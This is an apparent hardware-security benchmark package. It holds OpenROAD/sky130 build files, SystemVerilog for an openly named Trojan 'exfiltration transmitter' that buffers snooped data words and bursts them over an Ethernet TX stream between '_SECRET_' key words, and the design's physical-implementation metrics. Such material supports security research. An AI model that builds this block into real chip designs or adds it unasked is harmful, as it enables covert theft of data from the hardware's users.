### config.mk
export PLATFORM = sky130hd
export DESIGN_NAME = troj_exfil_tx_flat
export DESIGN_NICKNAME = d
export VERILOG_FILES = /design/src/rtl/troj_exfil_tx_if.sv /design/src/rtl/troj_exfil_tx.sv /design/src/flat_wrapper.sv
export SDC_FILE = /design/constraint.sdc
export NUM_CORES = 1
export LEC_CHECK = 0
export BUFFER_PORTS_ARGS = -buffer_cell sky130_fd_sc_hd__clkbuf_2
export CORE_ASPECT_RATIO = 1.5
export CORE_MARGIN = 1
export CORE_UTILIZATION = 35
export CTS_BUF_LIST = sky130_fd_sc_hd__clkbuf_2 sky130_fd_sc_hd__clkbuf_4 sky130_fd_sc_hd__clkbuf_8
export CTS_CLUSTER_SIZE = 25
export DETAILED_ROUTE_END_ITERATION = 6
export HOLD_SLACK_MARGIN = 0.15
export PLACE_DENSITY_LB_ADDON = 0.3
export SLEW_MARGIN = 20
export SYNTH_ARGS = -nofsm -noshare
export SYNTH_HDL_FRONTEND = slang
export SYNTH_SLANG_ARGS = --single-unit
### constraint.sdc
create_clock -name i_clk -period 11.8 [get_ports i_clk]
set_input_delay 2.95 -clock i_clk [delete_from_list [all_inputs] [get_ports i_clk]]
set_output_delay 2.95 -clock i_clk [all_outputs]
set_load 0.02 [all_outputs]
### src/rtl/troj_exfil_tx_if.sv
// Bundles the snoop-capture inputs and the Ethernet TX word-stream outputs
// of troj_exfil_tx. The slave modport is the block itself; the master modport
// is whoever drives the snoop source and consumes the TX stream.
interface troj_exfil_tx_if #(
  parameter int DEPTH = 8
) ();
  localparam int LW = $clog2(DEPTH) + 1;

  logic [31:0]   i_snoop_data;
  logic          i_snoop_valid;
  logic          i_trigger;
  logic          i_tx_ready;
  logic [31:0]   o_tx_data;
  logic          o_tx_valid;
  logic          o_tx_last;
  logic          o_busy;
  logic [LW-1:0] o_level;
  logic          o_overflow;

  modport master (
    output i_snoop_data, i_snoop_valid, i_trigger, i_tx_ready,
    input  o_tx_data, o_tx_valid, o_tx_last, o_busy, o_level, o_overflow
  );

  modport slave (
    input  i_snoop_data, i_snoop_valid, i_trigger, i_tx_ready,
    output o_tx_data, o_tx_valid, o_tx_last, o_busy, o_level, o_overflow
  );
endinterface

### src/rtl/troj_exfil_tx.sv
// Exfiltration transmitter: buffers snooped words in a small circular FIFO and
// sends them as one framed burst KEY_0, KEY_1, payload..., END_0 on the TX word
// stream. Payload words that collide with END_0 are replaced by SUBST so the
// receiver never sees a premature terminator. All outputs come from flops.
module troj_exfil_tx #(
  parameter int          DEPTH = 8,
  parameter logic [31:0] KEY_0 = 32'h5f534543,
  parameter logic [31:0] KEY_1 = 32'h5245545f,
  parameter logic [31:0] END_0 = 32'h53544F50,
  parameter logic [31:0] SUBST = 32'h53544F51
) (
  input  logic             i_clk,
  input  logic             i_rst,
  troj_exfil_tx_if.slave   bus
);
  localparam int AW = $clog2(DEPTH);
  localparam int LW = AW + 1;

  typedef enum logic [2:0] {
    S_IDLE,
    S_KEY0,
    S_KEY1,
    S_PAYLOAD,
    S_END
  } state_e;

  state_e        state_q, state_d;
  logic [AW-1:0] wr_ptr_q, wr_ptr_d;
  logic [AW-1:0] rd_ptr_q, rd_ptr_d;
  logic [AW-1:0] rd_next;
  logic [LW-1:0] level_q, level_d;
  logic [LW-1:0] n_q, n_d;
  logic          overflow_q, overflow_d;
  logic          busy_q, busy_d;
  logic [31:0]   tx_data_q, tx_data_d;
  logic          tx_valid_q, tx_valid_d;
  logic          tx_last_q, tx_last_d;
  logic [31:0]   mem_q [DEPTH];
  logic          full;
  logic          push;
  logic          pop;
  logic          hs;

  // A payload word equal to the terminator would end the frame early at the
  // receiver, so it is swapped for a look-alike.
  function automatic logic [31:0] subst_word(input logic [31:0] w);
    return (w == END_0) ? SUBST : w;
  endfunction

  // FIFO bookkeeping: pointers wrap naturally because DEPTH is a power of two.
  always_comb begin
    full       = (level_q == LW'(DEPTH));
    push       = bus.i_snoop_valid && !full;
    rd_next    = rd_ptr_q + AW'(1);
    wr_ptr_d   = push ? (wr_ptr_q + AW'(1)) : wr_ptr_q;
    rd_ptr_d   = pop ? rd_next : rd_ptr_q;
    level_d    = level_q + LW'(push) - LW'(pop);
    overflow_d = overflow_q | (bus.i_snoop_valid & full);
  end

  // Framing FSM: next state plus the registered TX word for that state. The
  // next payload word is looked up from the post-pop read pointer so the data
  // register always holds the current FIFO head.
  always_comb begin
    state_d    = state_q;
    n_d        = n_q;
    pop        = 1'b0;
    tx_data_d  = tx_data_q;
    tx_valid_d = tx_valid_q;
    tx_last_d  = tx_last_q;
    hs         = tx_valid_q && bus.i_tx_ready;

    unique case (state_q)
      S_IDLE: begin
        tx_data_d  = '0;
        tx_valid_d = 1'b0;
        tx_last_d  = 1'b0;
        if ((bus.i_trigger || full) && (level_q != '0)) begin
          state_d    = S_KEY0;
          n_d        = level_q;
          tx_data_d  = KEY_0;
          tx_valid_d = 1'b1;
        end
      end
      S_KEY0: begin
        if (hs) begin
          state_d   = S_KEY1;
          tx_data_d = KEY_1;
        end
      end
      S_KEY1: begin
        if (hs) begin
          state_d   = S_PAYLOAD;
          tx_data_d = subst_word(mem_q[rd_ptr_q]);
        end
      end
      S_PAYLOAD: begin
        if (hs) begin
          pop = 1'b1;
          n_d = n_q - LW'(1);
          if (n_q == LW'(1)) begin
            state_d   = S_END;
            tx_data_d = END_0;
            tx_last_d = 1'b1;
          end else begin
            tx_data_d = subst_word(mem_q[rd_next]);
          end
        end
      end
      S_END: begin
        if (hs) begin
          state_d    = S_IDLE;
          tx_data_d  = '0;
          tx_valid_d = 1'b0;
          tx_last_d  = 1'b0;
        end
      end
      default: begin
        state_d    = S_IDLE;
        tx_data_d  = '0;
        tx_valid_d = 1'b0;
        tx_last_d  = 1'b0;
      end
    endcase

    busy_d = (state_d != S_IDLE);
  end

  // Control and output registers; reset abandons any packet and empties the FIFO.
  always_ff @(posedge i_clk) begin
    if (i_rst) begin
      state_q    <= S_IDLE;
      wr_ptr_q   <= '0;
      rd_ptr_q   <= '0;
      level_q    <= '0;
      n_q        <= '0;
      overflow_q <= 1'b0;
      busy_q     <= 1'b0;
      tx_data_q  <= '0;
      tx_valid_q <= 1'b0;
      tx_last_q  <= 1'b0;
    end else begin
      state_q    <= state_d;
      wr_ptr_q   <= wr_ptr_d;
      rd_ptr_q   <= rd_ptr_d;
      level_q    <= level_d;
      n_q        <= n_d;
      overflow_q <= overflow_d;
      busy_q     <= busy_d;
      tx_data_q  <= tx_data_d;
      tx_valid_q <= tx_valid_d;
      tx_last_q  <= tx_last_d;
    end
  end

  // FIFO storage; contents are don't-care until written, so no reset.
  always_ff @(posedge i_clk) begin
    if (push && !i_rst) begin
      mem_q[wr_ptr_q] <= bus.i_snoop_data;
    end
  end

  assign bus.o_tx_data  = tx_data_q;
  assign bus.o_tx_valid = tx_valid_q;
  assign bus.o_tx_last  = tx_last_q;
  assign bus.o_busy     = busy_q;
  assign bus.o_level    = level_q;
  assign bus.o_overflow = overflow_q;
endmodule

### src/flat_wrapper.sv
// flat-port wrapper written by rule: the top's interface ports become plain ports
module troj_exfil_tx_flat 
#(
  parameter int          DEPTH = 8,
  parameter logic [31:0] KEY_0 = 32'h5f534543,
  parameter logic [31:0] KEY_1 = 32'h5245545f,
  parameter logic [31:0] END_0 = 32'h53544F50,
  parameter logic [31:0] SUBST = 32'h53544F51
)
  (i_clk, i_rst, bus_i_snoop_data, bus_i_snoop_valid, bus_i_trigger, bus_i_tx_ready, bus_o_tx_data, bus_o_tx_valid, bus_o_tx_last, bus_o_busy, bus_o_level, bus_o_overflow);
  troj_exfil_tx_if #(.DEPTH(DEPTH)) bus_i ();
  input  logic i_clk;
  input  logic i_rst;
  input wire logic [$bits(bus_i.i_snoop_data)-1:0] bus_i_snoop_data;
  input wire logic [$bits(bus_i.i_snoop_valid)-1:0] bus_i_snoop_valid;
  input wire logic [$bits(bus_i.i_trigger)-1:0] bus_i_trigger;
  input wire logic [$bits(bus_i.i_tx_ready)-1:0] bus_i_tx_ready;
  output wire logic [$bits(bus_i.o_tx_data)-1:0] bus_o_tx_data;
  output wire logic [$bits(bus_i.o_tx_valid)-1:0] bus_o_tx_valid;
  output wire logic [$bits(bus_i.o_tx_last)-1:0] bus_o_tx_last;
  output wire logic [$bits(bus_i.o_busy)-1:0] bus_o_busy;
  output wire logic [$bits(bus_i.o_level)-1:0] bus_o_level;
  output wire logic [$bits(bus_i.o_overflow)-1:0] bus_o_overflow;
  assign bus_i.i_snoop_data = bus_i_snoop_data;
  assign bus_i.i_snoop_valid = bus_i_snoop_valid;
  assign bus_i.i_trigger = bus_i_trigger;
  assign bus_i.i_tx_ready = bus_i_tx_ready;
  assign bus_o_tx_data = bus_i.o_tx_data;
  assign bus_o_tx_valid = bus_i.o_tx_valid;
  assign bus_o_tx_last = bus_i.o_tx_last;
  assign bus_o_busy = bus_i.o_busy;
  assign bus_o_level = bus_i.o_level;
  assign bus_o_overflow = bus_i.o_overflow;
  troj_exfil_tx #(.DEPTH(DEPTH), .KEY_0(KEY_0), .KEY_1(KEY_1), .END_0(END_0), .SUBST(SUBST)) u_core (.i_clk(i_clk), .i_rst(i_rst), .bus(bus_i));
endmodule
==> results_tabular.tex <==
\begin{tabular}{lr}
\hline
Metric & Value \\
\hline
\multicolumn{2}{l}{\textbf{Logic synthesis}} \\
\quad Syn\_nets & 976 \\
\quad Cell area after synthesis & 14550 µm² \\
\quad Combinational family with the most area after synthesis & multiplexers \\
\quad Mux share of post-synthesis cell area & 22.72\% \\
\quad Instance count of the mapped netlist & 928 \\
\quad Simple logic cell fraction of the synthesized area & 7.612\% \\
\quad Synth unique cells & 58 \\
\quad Yosys warning count & 0 \\
\quad Post-synthesis average cell area & 15.68 µm² \\
\quad Number of enable-type register cells in the synthesized netlist & 256 \\
\quad Number of register bits inferred by synthesis & 312 \\
\quad Xor-xnor portion of the synthesized cell area & 0.5419\% \\
\quad Synth Area in Adders & 0.9978\% \\
\quad Share of async-settable or async-resettable flops after synthesis & 0\% \\
\quad Compound-gate portion of the synthesized area & 5.419\% \\
\quad Leading register cell type out of synthesis & sky130\_fd\_sc\_hd\_\_edfxtp\_1 \\
\quad Share of the yosys chip area belonging to registers & 60.55\% \\
\multicolumn{2}{l}{\textbf{Power}} \\
\quad Peak supply drop & 0.06754 mV \\
\quad Leakage power total & 5.228 nW \\
\quad PD cells & 159.8 nW/µm² \\
\multicolumn{2}{l}{\textbf{Clocking}} \\
\quad Total number of H-tree levels & 2 \\
\quad Clock transition time at the flip-flop clock pins of the worst setup and hold paths & 0.07 ns \\
\quad Longest Clk Path Bufs & 3 \\
\quad Clk\_lat worst skew & 0.59 ns \\
\quad Root Driver & sky130\_fd\_sc\_hd\_\_clkbuf\_8 \\
\quad Clock tree from TritonCTS & yes \\
\quad Setup repair bufs after CTS & 0 \\
\quad CTS buffer count & 46 \\
\quad Number of hold buffers added after CTS & 0 \\
\quad Number of gates resized after cts & 0 \\
\quad Clock sink count & 312 \\
\multicolumn{2}{l}{\textbf{STA}} \\
\quad Maximum frequency from static timing analysis & 0.1985 GHz \\
\quad Period minus WS final & 5.039 ns \\
\quad Slew headroom & 25.30\% \\
\quad Final Setup Violations & 0 \\
\quad Setup total negative slack & 0 ns \\
\quad Final Skew & 0.02977 ns \\
\quad Slew at the pin closest to its max-slew limit & 1.116 ns \\
\quad RSZ-0062 raised after global routing & false \\
\quad Final Hold Vio Count & 0 \\
\quad Final number of max-transition violations & 0 \\
\quad Part of the cycle the worst path needs & 42.70\% \\
\multicolumn{2}{l}{\textbf{Global routing}} \\
\quad Total Routing Usage GR & 20.29\% \\
\quad Antenna violations before repair & 1 \\
\quad Wire length of the first global-routing pass & 62380 µm \\
\quad Congestion Overflow GR & 0 \\
\quad Vias in the first global route & 9485 \\
\quad Largest net degree at the start of global routing & 50 \\
\multicolumn{2}{l}{\textbf{Status}} \\
\quad Result of the run & completed \\
\multicolumn{2}{l}{\textbf{Hold path}} \\
\quad Min-Delay Path Class & register to register \\
\quad Worst-case hold path end point & u\_core.bus.o\_tx\_data[18]\$\_SDFFE\_PP0P\_ \\
\quad Worst Hold Launch & u\_core.bus.o\_tx\_data[18]\$\_SDFFE\_PP0P\_ \\
\quad Depth of the worst hold-timing path & 2 \\
\multicolumn{2}{l}{\textbf{Placement}} \\
\quad IO Port Bufs & 76 \\
\quad Routability cong. & 0.8653 \\
\quad Post-DP HPWL & 27710 µm \\
\multicolumn{2}{l}{\textbf{Setup path}} \\
\quad Start point of the critical path & u\_core.rd\_ptr\_q[0]\$\_SDFFE\_PP0P\_ \\
\quad Kind of start point of the critical path & register \\
\quad Data arrival at the endpoint of the critical path & 5.48 ns \\
\quad Source of the worst register-to-register timing path & u\_core.rd\_ptr\_q[0]\$\_SDFFE\_PP0P\_ \\
\quad End of the worst register-to-register path & u\_core.bus.o\_tx\_data[23]\$\_SDFFE\_PP0P\_ \\
\quad Reg2Reg Setup Slack & 6.76 ns \\
\quad Worst r2r path cells & 9 \\
\quad Capturing element type of the critical path & register \\
\quad Crit-path max FO & 40 \\
\quad Critical path start-end classification & register to register \\
\quad Crit path required time & 12.25 ns \\
\multicolumn{2}{l}{\textbf{Layout}} \\
\quad Layout overhead on the synthesized area & 13.39\% \\
\quad Fraction of layout cells with a size suffix above 1 & 31.00\% \\
\quad Net total in the final layout & 1057 \\
\quad Leading cell types in the layout, fill and taps excluded & sky130\_fd\_sc\_hd\_\_edfxtp\_1, sky130\_fd\_sc\_hd\_\_mux4\_2, sky130\_fd\_sc\_hd\_\_nand2\_1, sky130\_fd\_sc\_hd\_\_clkbuf\_2, sky130\_fd\_sc\_hd\_\_dfxtp\_1 \\
\quad Final design utilization & 40.13\% \\
\quad Commonest non-fill, non-tap cell in the layout & sky130\_fd\_sc\_hd\_\_edfxtp\_1 \\
\multicolumn{2}{l}{\textbf{Die}} \\
\quad Floorplan Core Area & 41100 µm² \\
\quad Floorplan die height & 251.7 µm \\
\quad Initial standard-cell utilization of the core & 35.39\% \\
\quad Placement row count & 91 \\
\quad Total die area & 42400 µm² \\
\quad Boundary pin count & 77 \\
\quad Die Width & 168.5 µm \\
\multicolumn{2}{l}{\textbf{Drt}} \\
\quad Remaining antenna violation count after routing & 0 \\
\quad Final WL & 42050 µm \\
\quad Number of iterations in the first detailed-routing pass & 7 \\
\quad DRC violation count after routing & 0 \\
\quad Avg WL per Cell & 26.22 µm \\
\quad First DRT Iteration DRCs & 829 \\
\quad Vias/cell & 5.620 \\
\quad Vias post-DR & 9015 \\
\multicolumn{2}{l}{\textbf{Job}} \\
\quad Max\_cap viols & 0 \\
\hline
\end{tabular}
power by group:
group	internal, W	switching, W	leakage [nW]
Sequential	0.00127	0.0000621	2.77
Clock	0.000453	0.000425	0.467
Combinational	0.000139	0.000288	1.99
Total	0.00186	0.000775	5.23
worst max-delay path: stages (launching register included):
cell,delay [ns]
sky130_fd_sc_hd__dfxtp_4,0.86
sky130_fd_sc_hd__ha_2,0.85
sky130_fd_sc_hd__buf_4,0.64
sky130_fd_sc_hd__mux4_2,0.47
sky130_fd_sc_hd__nand4b_1,0.20
sky130_fd_sc_hd__mux2_2,0.29
sky130_fd_sc_hd__nor4_1,0.47
sky130_fd_sc_hd__a21oi_1,0.41
sky130_fd_sc_hd__a221oi_1,0.56
sky130_fd_sc_hd__nor2_1,0.08
cell usage after synthesis (all sizes together), types with 12 or more instances:
master    n  area share (%)
dfxtp    56             7.7
nor3     14            0.48
inv      12            0.31
nor2     50             1.3
mux2i    31             2.1
mux4    128              20
a21oi    33             1.2
a31oi    12            0.52
clkbuf   35            0.90
nand2   104             2.7
buf      26            0.94
o21ai    39             1.3
edfxtp  256              53
layer usage:
metal	share of wire (%)	track usage [%]	vias up
li1	-	-	3890
met5	0	0	-
met3	5.8	2.729	109
met4	5.3	10.75	0
met2	52	36.18	388
met1	37	23.64	4628
how the worst max path moves through the flow:
stage                                            end  depth (start not counted)
2_1_floorplan           u_core.mem_q[0][0]$_DFFE_PP_                          3
3_3_place_gp           u_core.mem_q[0][15]$_DFFE_PP_                          4
3_5_place_dp            u_core.mem_q[0][3]$_DFFE_PP_                          4
4_1_cts        u_core.bus.o_tx_data[23]$_SDFFE_PP0P_                          9
5_1_grt        u_core.bus.o_tx_data[23]$_SDFFE_PP0P_                          9
6_report       u_core.bus.o_tx_data[23]$_SDFFE_PP0P_                          9
state kept, by name, summed over array words and instances (netlist names), named ones only:
register,count
u_core.bus.o_busy,1
u_core.bus.o_level,4
u_core.bus.o_overflow,1
u_core.bus.o_tx_data,32
u_core.bus.o_tx_last,1
u_core.bus.o_tx_valid,1
u_core.mem_q,256
u_core.n_q,4
u_core.rd_ptr_q,3
u_core.state_q,3
u_core.wr_ptr_q,3
stage by stage:
stage	setup slack [ns]	hold WS [ns]	area [µm²]	std cells	power, W
final	6.761	0.4456	16490	1604	0.002635
after floorplan	5.632	0.4717	14550	928	0.001593
after global placement	6.342	0.4461	15580	1519	0.001773
after detailed placement	6.302	0.4390	15580	1519	0.001780
after CTS	6.736	0.4490	16490	1603	0.002659
after global routing	6.373	0.4876	16490	1604	0.002740
layout make-up:
type,count,area [µm²]
clock buffers,56,726.9
multi-input cells,543,5503
clock inverters,28,182.7
inverters,12,45.04
repair buffers,94,515.5
diodes,1,2.502
flip-flops and latches,312,8821
fillers,3768,24610
well taps,558,698.2
logic make-up (layout without fill, tap and decap cells):
family | after synthesis | after routing
flip-flops | 312 | 312
AND/OR/NAND/NOR | 230 | 230
multiplexers | 169 | 169
AO/OA/AOI/OAI | 124 | 124
buffers and inverters | 73 | 190
adder cells (fa/ha/maj) | 11 | 11
XOR/XNOR | 9 | 9
other | 0 | 1
Power figures use the tool's default switching activity.
